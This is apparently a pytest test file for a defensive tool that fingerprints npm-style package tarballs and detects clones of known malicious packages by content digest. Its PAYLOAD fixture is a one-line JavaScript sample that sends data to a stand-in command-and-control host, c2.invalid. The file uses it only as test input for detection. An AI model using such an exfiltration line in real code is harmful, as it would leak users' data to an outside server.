import pytest

from conftest import make_tgz
from pkgwatch.artifact import load_tarball
from pkgwatch.clones import (
    ContentDigest,
    MalwareHashSet,
    canonical_digest,
    find_clone,
)

PAYLOAD = {"index.js": 'require("http").get("http://c2.invalid/?d=" + x);'}


def test_name_version_do_not_affect_digest():
    a = load_tarball(make_tgz(name="a", version="1.0.0", files=PAYLOAD))
    b = load_tarball(make_tgz(name="b", version="9.9.9", files=PAYLOAD))
    assert canonical_digest(a) == canonical_digest(b)


def test_single_byte_edit_changes_digest():
    a = load_tarball(make_tgz(files={"x.js": "var a = 1;"}))
    b = load_tarball(make_tgz(files={"x.js": "var a = 2;"}))
    assert canonical_digest(a) != canonical_digest(b)


def test_entry_order_and_mtime_do_not_affect_digest():
    files = {"a.js": "1", "b.js": "2"}
    one = load_tarball(make_tgz(files=files, mtime=0,
                                order=["package.json", "a.js", "b.js"]))
    two = load_tarball(make_tgz(files=files, mtime=1_600_000_000,
                                order=["b.js", "a.js", "package.json"]))
    assert canonical_digest(one) == canonical_digest(two)


def test_other_manifest_fields_participate():
    a = load_tarball(make_tgz(scripts={"postinstall": "node x.js"}))
    b = load_tarball(make_tgz(scripts={}))
    assert canonical_digest(a) != canonical_digest(b)


def test_algorithms():
    artifact = load_tarball(make_tgz(files=PAYLOAD))
    md5 = canonical_digest(artifact, "md5")
    blake = canonical_digest(artifact, "blake2b-128")
    assert md5.algorithm == "md5" and len(md5.value) == 32
    assert blake.algorithm == "blake2b-128" and len(blake.value) == 32
    assert md5.value != blake.value
    with pytest.raises(ValueError):
        canonical_digest(artifact, "crc32")


def test_digest_parse_round_trip():
    d = ContentDigest(value="ab" * 16, algorithm="md5")
    assert ContentDigest.parse(str(d)) == d
    with pytest.raises(ValueError):
        ContentDigest.parse("no-colon")


def test_register_and_find_clone(tmp_path):
    hash_set = MalwareHashSet(tmp_path / "hashes.txt")
    mal = load_tarball(make_tgz(name="stealer", version="1.0.0", files=PAYLOAD))
    assert hash_set.register(canonical_digest(mal), "stealer", "1.0.0", "2021-08-02")

    clone = load_tarball(make_tgz(name="innocent-utils", version="4.2.0",
                                  files=PAYLOAD))
    match = find_clone(clone, hash_set)
    assert match is not None
    assert match.package == "stealer"
    assert match.version == "1.0.0"
    assert match.date_added == "2021-08-02"


def test_unregistered_artifact_no_match(tmp_path):
    hash_set = MalwareHashSet(tmp_path / "hashes.txt")
    artifact = load_tarball(make_tgz(files={"ok.js": "module.exports = 1;"}))
    assert find_clone(artifact, hash_set) is None


def test_duplicate_registration_ignored(tmp_path):
    hash_set = MalwareHashSet(tmp_path / "hashes.txt")
    artifact = load_tarball(make_tgz(files=PAYLOAD))
    digest = canonical_digest(artifact)
    assert hash_set.register(digest, "first", "1.0.0")
    assert not hash_set.register(digest, "second", "2.0.0")
    assert hash_set.lookup(digest).package == "first"
    assert len(hash_set) == 1


def test_persistence_reload(tmp_path):
    path = tmp_path / "hashes.txt"
    first = MalwareHashSet(path)
    artifact = load_tarball(make_tgz(files=PAYLOAD))
    first.register(canonical_digest(artifact), "pkg", "1.0.0", "2021-08-01")

    reloaded = MalwareHashSet(path)
    assert len(reloaded) == 1
    assert find_clone(artifact, reloaded).package == "pkg"


def test_append_only_file_format(tmp_path):
    path = tmp_path / "hashes.txt"
    hash_set = MalwareHashSet(path)
    a = load_tarball(make_tgz(name="a", files=PAYLOAD))
    b = load_tarball(make_tgz(name="b", files={"y.js": "eval(c)"}))
    hash_set.register(canonical_digest(a), "a", "1.0.0", "2021-08-01")
    hash_set.register(canonical_digest(b), "b", "2.0.0", "2021-08-02")
    lines = path.read_text().strip().splitlines()
    assert len(lines) == 2
    assert lines[0].split("\t")[1:] == ["a", "1.0.0", "2021-08-01"]


def test_memory_only_hash_set():
    hash_set = MalwareHashSet()
    artifact = load_tarball(make_tgz(files=PAYLOAD))
    hash_set.register(canonical_digest(artifact), "p", "1.0.0")
    assert find_clone(artifact, hash_set) is not None


def test_mixed_algorithms_in_set(tmp_path):
    hash_set = MalwareHashSet(tmp_path / "hashes.txt")
    artifact = load_tarball(make_tgz(files=PAYLOAD))
    hash_set.register(canonical_digest(artifact, "blake2b-128"), "p", "1.0.0")
    assert find_clone(artifact, hash_set).package == "p"
